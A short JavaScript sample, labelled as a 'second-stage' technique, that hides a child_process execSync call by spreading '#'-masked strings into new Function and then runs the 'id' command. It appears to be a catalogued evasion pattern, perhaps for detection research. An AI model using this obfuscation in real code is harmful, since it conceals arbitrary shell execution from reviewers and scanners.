// class: second-stage | technique: Function parameters and body spread from an array de-obfuscated with String.prototype.replaceAll | effect: runs `id`
const parts = ['cmd', "r#turn proc#ss.mainModul#.r#quir#('child_proc#ss').#x#cSync(cmd).toString()"]
  .map((s) => s.replaceAll('#', 'e'));

const exec = new Function(...parts);
console.log(exec('id').trim());
